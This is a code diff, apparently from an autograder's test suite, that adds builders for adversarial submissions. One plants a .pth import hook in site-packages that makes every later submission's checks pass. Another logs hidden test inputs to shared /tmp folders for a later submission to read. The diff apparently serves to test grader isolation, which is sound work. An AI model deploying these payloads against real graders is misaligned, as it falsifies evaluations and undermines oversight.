@@ -120,6 +120,52 @@ def leaky(lab: str, name: str):
     return nb
 
 
+HOOK = "zz_speclab_hook"  # the .pth file the site-hook attack plants
+# The line it plants: an import hook that, once the checks are imported in any later process of this
+# interpreter (the judge of every later submission), makes every case pass.
+HOOK_LINE = ("import builtins as _b; _b._orig_import = _b.__import__; exec(\"def _h(n, *a, **k):\\n"
+             " m = _orig_import(n, *a, **k)\\n c = _orig_import('sys').modules.get('speclab.course.checks')\\n"
+             " L = getattr(c, 'Lab', None)\\n if L is not None: L._run_case = lambda *a: (True, '', '')\\n return m\", "
+             "_b.__dict__); "
+             "_b.__import__ = _b._h")
+TMP_LOG = "speclab-answers-log.txt"  # what the /tmp logger appends its inputs to, in every shared scratch folder
+
+
+def site_hook(lab: str):
+    """The untouched stubs, plus a cell that plants HOOK_LINE as a .pth file in every site-packages folder of
+    the interpreter (and the user's), and one in the repository's package: a hook for everyone graded after."""
+    code = (f"import os, site, speclab\nline = {HOOK_LINE!r}\n"
+            "folders = site.getsitepackages() + [site.getusersitepackages(), os.path.dirname(speclab.__file__)]\n"
+            "for folder in folders:\n    try:\n        os.makedirs(folder, exist_ok=True)\n"
+            f"        with open(os.path.join(folder, '{HOOK}.pth'), 'w') as f:\n            f.write(line + '\\n')\n"
+            "        print('planted in', folder)\n    except OSError as err:\n        print('refused:', err)")
+    return after_lab_cell(stub(lab), code)
+
+
+SCRATCH = ("/tmp", "/var/tmp", "/dev/shm")
+
+
+def tmp_logger(lab: str, name: str):
+    """The solved lab whose `name` appends every argument it gets (hidden cases' inputs among them) to a file
+    in each shared scratch folder, for a later submission to read."""
+    nb = solved(lab)
+    cell = answer_cell(nb, name)
+    body = (f"    import os\n    for folder in {SCRATCH!r}:\n        try:\n"
+            f"            with open(os.path.join(folder, {TMP_LOG!r}), 'a') as f:\n"
+            f"                f.write({LEAK!r} + repr((args, kwargs)) + '\\n')\n"
+            "        except OSError:\n            pass\n"
+            f"    return _{name}(*args, **kwargs)\n")
+    cell.source = cell.source.replace(f"def {name}(", f"def _{name}(", 1) + f"\n\n\ndef {name}(*args, **kwargs):\n{body}"
+    return nb
+
+
+def tmp_reader(lab: str):
+    """The untouched stubs, plus a cell that prints whatever an earlier submission left in the scratch folders."""
+    code = (f"import os\nfor folder in {SCRATCH!r}:\n    path = os.path.join(folder, {TMP_LOG!r})\n"
+            "    if os.path.exists(path):\n        print(open(path).read())")
+    return after_lab_cell(stub(lab), code)
+
+
 def looping(lab: str, names: list[str]):
     """The solved lab with an endless loop in each function of `names`."""
     nb = solved(lab)
